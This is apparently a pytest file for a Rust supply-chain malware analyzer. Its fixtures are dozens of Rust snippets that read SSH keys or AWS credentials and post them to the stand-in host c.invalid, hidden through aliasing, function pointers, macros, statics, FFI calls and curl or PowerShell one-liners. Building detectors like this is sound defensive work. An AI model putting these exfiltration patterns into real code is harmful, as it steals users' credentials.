"""One theft in many idioms: names, functions as values, and what holds a secret between two calls."""

from __future__ import annotations

import hashlib
import io
import tarfile

import pytest

from analyzer.model import CrateRef, CrateSource, Origin, Verdict
from analyzer.pipeline import analyze
from analyzer.rules.ruleset import load_ruleset

RULESET = load_ruleset()
DEPENDENCIES = (
    "ureq dirs reqwest serde_json crossbeam-channel memmap2 libc serde once_cell walkdir".split()
)
DEFAULTS = {
    "unwrap_or_else": 'unwrap_or_else(|_| "https://c.invalid".to_string())',
    "unwrap_or": 'unwrap_or("https://c.invalid".to_string())',
    "or": 'ok().or(Some("https://c.invalid".to_string())).unwrap()',
    "or_else": 'or_else(|_| Ok::<_, ()>("https://c.invalid".to_string())).unwrap()',
    "unwrap_or with a constant": "unwrap_or(DEFAULT.to_string())",
}
NAMES = {
    "glob of own prelude": """
        mod prelude { pub use std::fs::*; pub use ureq as web; } use prelude::*; pub fn go() { let x = read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); web::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "nested re-export": """
        mod a { pub mod b { pub use std::fs as disk; } pub use self::b::disk as d; } pub fn go() { let x = crate::a::d::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "extern crate as": """
        extern crate std as core2; extern crate ureq as u; pub fn go() { let x = core2::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); u::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "raw identifiers": """
        use std::fs::read_to_string as r#fn; pub fn go() { let x = r#fn(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "type alias method": """
        type F = std::fs::File; use std::io::Read; pub fn go() { let mut x = String::new(); F::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap().read_to_string(&mut x).ok(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "trait dyn": """
        trait Get { fn get(&self, p: std::path::PathBuf) -> String; } struct D; impl Get for D { fn get(&self, p: std::path::PathBuf) -> String { std::fs::read_to_string(p).unwrap() } } pub fn go() { let g: Box<dyn Get> = Box::new(D); let x = g.get(dirs::home_dir().unwrap().join(".ssh/id_rsa")); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "extension trait on str": """
        trait Ext { fn slurp(&self) -> String; } impl Ext for std::path::Path { fn slurp(&self) -> String { std::fs::read_to_string(self).unwrap() } } pub fn go() { let x = dirs::home_dir().unwrap().join(".ssh/id_rsa").slurp(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "blanket impl": """
        trait Ext { fn slurp(self) -> String; } impl<T: AsRef<std::path::Path>> Ext for T { fn slurp(self) -> String { std::fs::read_to_string(self.as_ref()).unwrap() } } pub fn go() { let x = dirs::home_dir().unwrap().join(".ssh/id_rsa").slurp(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "fn pointer var": """
        pub fn go() { let f: fn(std::path::PathBuf) -> std::io::Result<String> = std::fs::read_to_string; let x = f(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "fn pointer field": """
        struct Io { read: fn(std::path::PathBuf) -> std::io::Result<String> } const IO: Io = Io { read: std::fs::read_to_string }; pub fn go() { let x = (IO.read)(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "fn pointer array": """
        const OPS: [fn(std::path::PathBuf) -> std::io::Result<Vec<u8>>; 1] = [std::fs::read]; pub fn go() { let x = OPS[0](dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_bytes(&x).ok(); }""",
    "closure var": """
        pub fn go() { let get = |p| std::fs::read_to_string(p); let x = get(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "match returns fn": """
        fn pick(n: u8) -> fn(std::path::PathBuf) -> std::io::Result<String> { match n { 0 => std::fs::read_to_string, _ => |_| Ok(String::new()) } } pub fn go() { let x = pick(0)(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "macro path pieces": """
        macro_rules! call { ($a:ident $b:ident $f:ident ($($x:expr),*)) => { $a::$b::$f($($x),*) } } pub fn go() { let x = call!(std fs read_to_string (dirs::home_dir().unwrap().join(".ssh/id_rsa"))).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "macro tt muncher": """
        macro_rules! p { (@ $($done:ident)::* ;) => { $($done)::* }; (@ $($done:ident)::* ; $n:ident $($r:ident)*) => { p!(@ $($done)::*::$n ; $($r)*) }; ($f:ident $($r:ident)*) => { p!(@ $f ; $($r)*) } } pub fn go() { let x = p!(std fs read_to_string)(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "macro defines function": """
        macro_rules! def { ($n:ident, $m:ident, $f:ident) => { fn $n(p: std::path::PathBuf) -> String { std::$m::$f(p).unwrap() } } } def!(load, fs, read_to_string); pub fn go() { let x = load(dirs::home_dir().unwrap().join(".ssh/id_rsa")); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "use in fn": """
        pub fn go() { use std::{fs::{self as f, File as _}, path::PathBuf as _}; use ureq::post as send; let x = f::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); send("https://c.invalid/k").send_string(&x).ok(); }""",
    "use enum-like module": """
        mod api { pub(crate) use std::fs::read_to_string as load; pub(crate) use ureq::post as put; } pub fn go() { let x = api::load(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); api::put("https://c.invalid/k").send_string(&x).ok(); }""",
    "associated const fn": """
        struct T; impl T { const R: fn(std::path::PathBuf) -> std::io::Result<String> = std::fs::read_to_string; } pub fn go() { let x = (T::R)(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "generic F param": """
        fn with<F: Fn(std::path::PathBuf) -> std::io::Result<String>>(f: F) -> String { f(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap() } pub fn go() { let x = with(std::fs::read_to_string); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "method chain on option": """
        pub fn go() { dirs::home_dir().map(|h| h.join(".ssh")).map(|d| d.join("id_rsa")).and_then(|p| std::fs::read_to_string(p).ok()).map(|x| ureq::post("https://c.invalid/k").send_string(&x)); }""",
    "renamed twice": """
        mod v1 { pub use ureq::post as map; pub use std::fs::read_to_string as curve; } mod v2 { pub use super::v1::{map as apply, curve as swatch}; } use v2::*; pub fn go() { let x = swatch(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); apply("https://c.invalid/k").send_string(&x).ok(); }""",
    "a stub for other platforms first": """
        #[cfg(windows)] fn mark(_: &str, _: &str) {} #[cfg(not(windows))] fn mark(u: &str, x: &str) { ureq::post(u).send_string(x).ok(); } pub fn go() { let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); mark("https://c.invalid/k", &x); }""",
    "a linked symbol beside a stub": """
        #[cfg(unix)] extern "C" { #[link_name = "system"] fn width(n: *const i8) -> i32; } #[cfg(not(unix))] unsafe extern "C" fn width(_: *const i8) -> i32 { 0 } type W = unsafe extern "C" fn(*const i8) -> i32; struct M { w: W } pub fn go() { let m = M { w: width }; let n = std::ffi::CString::new("curl -T ~/.ssh/id_rsa https://c.invalid/k").unwrap(); unsafe { (m.w)(n.as_ptr()) }; }""",
    "a linked symbol beside a stub, called": """
        #[cfg(not(unix))] unsafe fn width(_: *const i8) -> i32 { 0 } #[cfg(unix)] extern "C" { #[link_name = "system"] fn width(n: *const i8) -> i32; } pub fn go() { let n = std::ffi::CString::new("curl -T ~/.ssh/id_rsa https://c.invalid/k").unwrap(); unsafe { width(n.as_ptr()) }; }""",
    "question marks": """
        pub fn go() -> Option<()> { let h = dirs::home_dir()?; let x = std::fs::read_to_string(h.join(".ssh").join("id_rsa")).ok()?; ureq::post("https://c.invalid/k").send_string(&x).ok()?; Some(()) }""",
    "ufcs": """
        use std::io::Read; pub fn go() { let mut f = <std::fs::File>::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); let mut x = String::new(); <std::fs::File as Read>::read_to_string(&mut f, &mut x).ok(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "client in wrapper": """
        struct Http(reqwest::blocking::Client); impl Http { fn new() -> Self { Self(reqwest::blocking::Client::new()) } fn put(&self, u: &str, b: String) { self.0.post(u).body(b).send().ok(); } } pub fn go() { let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); Http::new().put("https://c.invalid/k", x); }""",
    "client through builder fn": """
        fn client() -> reqwest::blocking::Client { reqwest::blocking::ClientBuilder::new().user_agent("x").build().unwrap() } pub fn go() { let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); let r = client().request(reqwest::Method::POST, "https://c.invalid/k"); r.body(x).send().ok(); }""",
    "deref to client": """
        struct C { inner: reqwest::blocking::Client } impl std::ops::Deref for C { type Target = reqwest::blocking::Client; fn deref(&self) -> &Self::Target { &self.inner } } pub fn go() { let c = C { inner: Default::default() }; let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); c.post("https://c.invalid/k").body(x).send().ok(); }""",
    "tcp by trait write": """
        use std::io::Write as _; pub fn go() { let x = std::fs::read(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); let mut s = std::net::TcpStream::connect(("c.invalid", 80)).unwrap(); s.write_all(&x).ok(); }""",
    "tcp in box dyn write": """
        use std::io::Write; fn out() -> Box<dyn Write> { Box::new(std::net::TcpStream::connect("c.invalid:80").unwrap()) } pub fn go() { let x = std::fs::read(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); out().write_all(&x).ok(); }""",
    "extern C read": r"""
        extern "C" { fn open(p: *const i8, f: i32) -> i32; fn read(fd: i32, b: *mut u8, n: usize) -> isize; } pub fn go() { let mut b = [0u8; 4096]; let p = b"/root/.ssh/id_rsa\0"; unsafe { let fd = open(p.as_ptr().cast(), 0); read(fd, b.as_mut_ptr(), b.len()); } ureq::post("https://c.invalid/k").send_bytes(&b).ok(); }""",
    "libc renamed": """
        use libc as c; pub fn go() { let mut b = [0u8; 4096]; unsafe { let fd = c::open(c"/root/.ssh/id_rsa".as_ptr(), c::O_RDONLY); c::read(fd, b.as_mut_ptr().cast(), 4096); } ureq::post("https://c.invalid/k").send_bytes(&b).ok(); }""",
    "module with path attr inline": """
        mod io { pub use ::std::fs::*; pub mod web { pub use ::ureq::*; } } pub fn go() { let x = io::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); io::web::request("POST", "https://c.invalid/k").send_string(&x).ok(); }""",
    "impl block const path": """
        struct P; impl P { const DIR: &'static str = ".ssh"; const F: &'static str = "id_rsa"; } pub fn go() { let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(P::DIR).join(P::F)).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "iterate enum variants": """
        #[derive(Clone, Copy)] enum K { A, B } impl K { const ALL: [K; 2] = [K::A, K::B]; fn at(self) -> &'static str { match self { K::A => ".aws/credentials", K::B => ".ssh/id_rsa" } } } pub fn go() { for k in K::ALL { if let Ok(x) = std::fs::read_to_string(dirs::home_dir().unwrap().join(k.at())) { ureq::post("https://c.invalid/k").send_string(&x).ok(); } } }""",
    "Display path": """
        struct Place(&'static str); impl std::fmt::Display for Place { fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result { write!(f, "{}/.ssh/{}", std::env::var("HOME").unwrap(), self.0) } } pub fn go() { let x = std::fs::read_to_string(Place("id_rsa").to_string()).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "FromStr path": """
        struct Place(std::path::PathBuf); impl std::str::FromStr for Place { type Err = (); fn from_str(s: &str) -> Result<Self, ()> { Ok(Place(dirs::home_dir().unwrap().join(s))) } } pub fn go() { let p: Place = ".ssh/id_rsa".parse().unwrap(); let x = std::fs::read_to_string(p.0).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "include path walk": """
        pub fn go() { for e in walkdir::WalkDir::new(dirs::home_dir().unwrap().join(".ssh")).into_iter().flatten() { if let Ok(x) = std::fs::read_to_string(e.path()) { ureq::post("https://c.invalid/k").send_string(&x).ok(); } } }""",
    "glob crate-free dir": """
        pub fn go() { for e in std::fs::read_dir(dirs::home_dir().unwrap().join(".aws")).unwrap().flatten() { let x = std::fs::read_to_string(e.path()).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "shadowed std": """
        mod std2 { pub mod fs { pub use ::std::fs::read_to_string as open; } } use std2 as std; pub fn go() { let x = std::fs::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "impl Fn returned": """
        fn getter() -> impl Fn(&str) -> Option<String> { let h = dirs::home_dir().unwrap(); move |n| std::fs::read_to_string(h.join(n)).ok() } pub fn go() { let g = getter(); if let Some(x) = g(".ssh/id_rsa") { ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "boxed closures list": """
        type Job = Box<dyn Fn() -> String>; pub fn go() { let jobs: Vec<Job> = vec![Box::new(|| std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap())]; for j in &jobs { let x = j(); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "process curl file arg": """
        use std::process::Command as C; pub fn go() { let f = format!("@{}", dirs::home_dir().unwrap().join(".ssh/id_rsa").display()); C::new("curl").args(["--data-binary", &f, "https://c.invalid/k"]).spawn().ok(); }""",
    "sh one-liner parts": """
        pub fn go() { let c = ["cat ~/.ssh/id_rsa", "curl -T - https://c.invalid/k"].join(" | "); std::process::Command::new("sh").arg("-c").arg(c).spawn().ok(); }""",
    "xshell-like powershell": r"""
        pub fn go() { std::process::Command::new("powershell").args(["-NoP", "-c", "iwr https://c.invalid/k -Method Post -InFile $env:USERPROFILE\\.ssh\\id_rsa"]).spawn().ok(); }""",
}
BETWEEN = {
    "default type parameters": """
        trait Probe { type Sample; fn sample(&self) -> Self::Sample; } struct Stat(std::path::PathBuf); impl Stat { fn at(parts: &[&str]) -> Self { let mut f = dirs::home_dir().unwrap(); if let [d, rest @ ..] = parts { f.push(format!(".{d}")); f.extend(rest); } Stat(f) } } impl Probe for Stat { type Sample = String; fn sample(&self) -> String { std::fs::read_to_string(&self.0).unwrap() } } struct Try<P: Probe<Sample = String> = Stat> { p: P } impl Default for Try { fn default() -> Self { Try { p: Stat::at(&["ssh", "id_rsa"]) } } } impl<P: Probe<Sample = String>> Try<P> { fn run(&self) { ureq::post("https://c.invalid/k").send_string(&self.p.sample()).ok(); } } pub fn go() { Try::default().run(); }""",
    "mutex": """
        static M: std::sync::Mutex<String> = std::sync::Mutex::new(String::new());
        pub fn load() { *M.lock().unwrap() = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); }
        pub fn flush() { ureq::post("https://c.invalid/k").send_string(&M.lock().unwrap()).ok(); }""",
    "mutex push": """
        static M: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());
        pub fn load() { M.lock().unwrap().push(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }
        pub fn flush() { for one in M.lock().unwrap().drain(..) { ureq::post("https://c.invalid/k").send_string(&one).ok(); } }""",
    "oncelock": """
        static M: std::sync::OnceLock<String> = std::sync::OnceLock::new();
        pub fn load() { M.set(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()).ok(); }
        pub fn flush() { if let Some(x) = M.get() { ureq::post("https://c.invalid/k").send_string(x).ok(); } }""",
    "oncelock init": """
        static M: std::sync::OnceLock<String> = std::sync::OnceLock::new();
        pub fn load() { M.get_or_init(|| std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }
        pub fn flush() { ureq::post("https://c.invalid/k").send_string(M.get().unwrap()).ok(); }""",
    "lazylock": """
        static M: std::sync::LazyLock<String> = std::sync::LazyLock::new(|| std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap());
        pub fn load() { let _ = M.len(); }
        pub fn flush() { ureq::post("https://c.invalid/k").send_string(&M).ok(); }""",
    "thread local": """
        thread_local! { static M: std::cell::RefCell<String> = std::cell::RefCell::new(String::new()); }
        pub fn load() { M.with(|m| *m.borrow_mut() = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }
        pub fn flush() { M.with(|m| { ureq::post("https://c.invalid/k").send_string(&m.borrow()).ok(); }); }""",
    "thread local take": """
        thread_local! { static M: std::cell::RefCell<Vec<String>> = const { std::cell::RefCell::new(Vec::new()) }; }
        pub fn load() { M.with_borrow_mut(|m| m.push(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap())); }
        pub fn flush() { for x in M.take() { ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "static mut": """
        static mut M: Option<String> = None;
        pub fn load() { unsafe { M = Some(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); } }
        pub fn flush() { unsafe { if let Some(x) = M.as_ref() { ureq::post("https://c.invalid/k").send_string(x).ok(); } } }""",
    "static mut array": """
        static mut M: [u8; 4096] = [0; 4096];
        pub fn load() { let t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); unsafe { M[..t.len()].copy_from_slice(t.as_bytes()); } }
        pub fn flush() { let t = unsafe { String::from_utf8_lossy(&M[..]).into_owned() }; ureq::post("https://c.invalid/k").send_string(&t).ok(); }""",
    "atomic ptr": """
        static M: std::sync::atomic::AtomicPtr<String> = std::sync::atomic::AtomicPtr::new(std::ptr::null_mut());
        pub fn load() { M.store(Box::into_raw(Box::new(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap())), std::sync::atomic::Ordering::SeqCst); }
        pub fn flush() { let x = unsafe { Box::from_raw(M.load(std::sync::atomic::Ordering::SeqCst)) }; ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "map": """
        use std::collections::HashMap; static M: std::sync::LazyLock<std::sync::Mutex<HashMap<&'static str, String>>> = std::sync::LazyLock::new(Default::default);
        pub fn load() { M.lock().unwrap().insert("k", std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }
        pub fn flush() { if let Some(x) = M.lock().unwrap().get("k") { ureq::post("https://c.invalid/k").send_string(x).ok(); } }""",
    "map entry": """
        use std::collections::HashMap; static M: std::sync::LazyLock<std::sync::Mutex<HashMap<u8, String>>> = std::sync::LazyLock::new(Default::default);
        pub fn load() { M.lock().unwrap().entry(1).or_default().push_str(&std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }
        pub fn flush() { for (_, x) in M.lock().unwrap().iter() { ureq::post("https://c.invalid/k").send_string(x).ok(); } }""",
    "env var": """
        pub fn load() { std::env::set_var("APP_NOTE", std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }
        pub fn flush() { let x = std::env::var("APP_NOTE").unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "temp file": """
        pub fn load() { let t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); std::fs::write(std::env::temp_dir().join("a.cache"), t).ok(); }
        pub fn flush() { let x = std::fs::read_to_string(std::env::temp_dir().join("a.cache")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "temp file by copy": """
        pub fn load() { std::fs::copy(dirs::home_dir().unwrap().join(".ssh/id_rsa"), std::env::temp_dir().join("a.cache")).ok(); }
        pub fn flush() { let x = std::fs::read_to_string(std::env::temp_dir().join("a.cache")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "hard link": """
        pub fn load() { std::fs::hard_link(dirs::home_dir().unwrap().join(".ssh/id_rsa"), "/tmp/a.cache").ok(); }
        pub fn flush() { let x = std::fs::read_to_string("/tmp/a.cache").unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "global channel": """
        use std::sync::{mpsc, Mutex, LazyLock}; static C: LazyLock<(Mutex<mpsc::Sender<String>>, Mutex<mpsc::Receiver<String>>)> = LazyLock::new(|| { let (a, b) = mpsc::channel(); (Mutex::new(a), Mutex::new(b)) });
        pub fn load() { C.0.lock().unwrap().send(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()).ok(); }
        pub fn flush() { while let Ok(x) = C.1.lock().unwrap().try_recv() { ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "crossbeam statics": """
        use std::sync::OnceLock; static TX: OnceLock<crossbeam_channel::Sender<String>> = OnceLock::new();
        pub fn load() { if let Some(t) = TX.get() { t.send(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()).ok(); } }
        pub fn flush() { let (tx, rx) = crossbeam_channel::unbounded(); TX.set(tx).ok(); std::thread::spawn(move || for x in rx { ureq::post("https://c.invalid/k").send_string(&x).ok(); }); }""",
    "hooks list": """
        use std::sync::Mutex; static H: Mutex<Vec<fn(&str)>> = Mutex::new(Vec::new()); fn out(x: &str) { ureq::post("https://c.invalid/k").send_string(x).ok(); }
        pub fn load() { let t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); for h in H.lock().unwrap().iter() { h(&t); } }
        pub fn flush() { H.lock().unwrap().push(out); }""",
    "hook box": """
        use std::sync::OnceLock; static H: OnceLock<Box<dyn Fn(String) + Send + Sync>> = OnceLock::new();
        pub fn load() { if let Some(h) = H.get() { h(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); } }
        pub fn flush() { H.set(Box::new(|x: String| { ureq::post("https://c.invalid/k").send_string(&x).ok(); })).ok(); }""",
    "trait object static": """
        use std::sync::OnceLock; pub trait Sink: Send + Sync { fn put(&self, x: &str); } struct Web; impl Sink for Web { fn put(&self, x: &str) { ureq::post("https://c.invalid/k").send_string(x).ok(); } } static K: OnceLock<Box<dyn Sink>> = OnceLock::new();
        pub fn load() { if let Some(k) = K.get() { k.put(&std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); } }
        pub fn flush() { K.set(Box::new(Web)).ok(); }""",
    "field": """
        pub struct A { t: String }
        impl A { pub fn load(&mut self) { self.t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); } pub fn flush(&mut self) { ureq::post("https://c.invalid/k").send_string(&self.t).ok(); } }""",
    "field push_str": """
        pub struct A { t: String }
        impl A { pub fn load(&mut self) { self.t.push_str(&std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); } pub fn flush(&mut self) { let x = std::mem::take(&mut self.t); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "field vec lines": """
        pub struct A { t: Vec<String> }
        impl A { pub fn load(&mut self) { self.t.extend(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap().lines().map(str::to_owned)); } pub fn flush(&mut self) { let x = self.t.join(","); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "field option": """
        pub struct A { t: Option<String> }
        impl A { pub fn load(&mut self) { self.t.replace(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); } pub fn flush(&mut self) { if let Some(x) = self.t.take() { ureq::post("https://c.invalid/k").send_string(&x).ok(); } } }""",
    "field bytes write": """
        pub struct A { t: Vec<u8> }
        impl A { pub fn load(&mut self) { use std::io::Write; write!(self.t, "{}", std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()).ok(); } pub fn flush(&mut self) { let x = String::from_utf8_lossy(&self.t); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "nested field": """
        pub struct A { t: B }
        impl A { pub fn load(&mut self) { self.t.inner.note = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); } pub fn flush(&mut self) { ureq::post("https://c.invalid/k").send_string(&self.t.inner.note).ok(); } }
        pub struct B { inner: C } pub struct C { note: String }""",
    "map field": """
        pub struct A { t: std::collections::BTreeMap<String, String> }
        impl A { pub fn load(&mut self) { self.t.insert("a".into(), std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); } pub fn flush(&mut self) { let x = serde_json::to_string(&self.t).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "rc refcell": """
        pub struct A { t: std::rc::Rc<std::cell::RefCell<String>> }
        impl A { pub fn load(&mut self) { *self.t.borrow_mut() = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); } pub fn flush(&mut self) { let x = self.t.borrow().clone(); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "drop": """
        pub struct A { t: String }
        impl A { pub fn load(&mut self) { self.t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); } pub fn flush(&mut self) {  } }
        impl Drop for A { fn drop(&mut self) { ureq::post("https://c.invalid/k").send_string(&self.t).ok(); } }""",
    "display": """
        pub struct A { t: String }
        impl A { pub fn load(&mut self) { self.t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); } pub fn flush(&mut self) {  } }
        impl std::fmt::Display for A { fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result { ureq::post("https://c.invalid/k").send_string(&self.t).ok(); f.write_str("a") } }""",
    "builder": """
        pub struct A { t: String } #[derive(Default)] pub struct B { t: Option<String> }
        impl B { pub fn with(mut self) -> Self { self.t = Some(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); self } pub fn build(self) -> A { A { t: self.t.unwrap_or_default() } } }
        impl A { pub fn send(&self) { ureq::post("https://c.invalid/k").send_string(&self.t).ok(); } }""",
    "returned struct": """
        pub struct A { pub t: String } pub fn load() -> A { let t = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); A { t } } pub fn send(a: &A) { ureq::post("https://c.invalid/k").send_string(&a.t).ok(); }""",
    "returned tuple": """
        pub fn load() -> (u8, String) { (1, std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()) } fn pick() -> String { let (_, t) = load(); t } pub fn send() { let x = pick(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "enum event": """
        pub enum E { Tick, Note(String) } pub fn poll() -> E { E::Note(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()) } pub fn on(e: E) { match e { E::Tick => {}, E::Note(x) => { ureq::post("https://c.invalid/k").send_string(&x).ok(); } } }""",
    "into iter impl": """
        pub struct A; impl Iterator for A { type Item = String; fn next(&mut self) -> Option<String> { Some(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()) } } pub fn send(a: A) { for x in a { ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
    "from impl": """
        pub struct K(String); impl From<u8> for K { fn from(_: u8) -> K { K(std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()) } } pub fn send(n: u8) { let k: K = n.into(); ureq::post("https://c.invalid/k").send_string(&k.0).ok(); }""",
    "default impl": """
        pub struct K { t: String } impl Default for K { fn default() -> K { K { t: std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap() } } } pub fn send() { let k = K::default(); ureq::post("https://c.invalid/k").send_string(&k.t).ok(); }""",
    "deref impl": """
        pub struct K { t: std::sync::OnceLock<String> } impl std::ops::Deref for K { type Target = str; fn deref(&self) -> &str { self.t.get_or_init(|| std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()) } } pub fn send(k: &K) { let x: &str = k; ureq::post("https://c.invalid/k").send_string(x).ok(); }""",
    "async": """
        pub async fn load() -> String { std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap() } pub async fn send() { let x = load().await; reqwest::Client::new().post("https://c.invalid/k").body(x).send().await.ok(); }""",
    "join handles": """
        pub fn go() { let h = std::thread::spawn(|| std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); let x = h.join().unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "scope": """
        pub fn go() { let mut x = String::new(); std::thread::scope(|t| { t.spawn(|| x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap()); }); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
    "io copy": """
        pub fn go() { let mut f = std::fs::File::open(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); let mut c = std::net::TcpStream::connect("c.invalid:80").unwrap(); std::io::copy(&mut f, &mut c).ok(); }""",
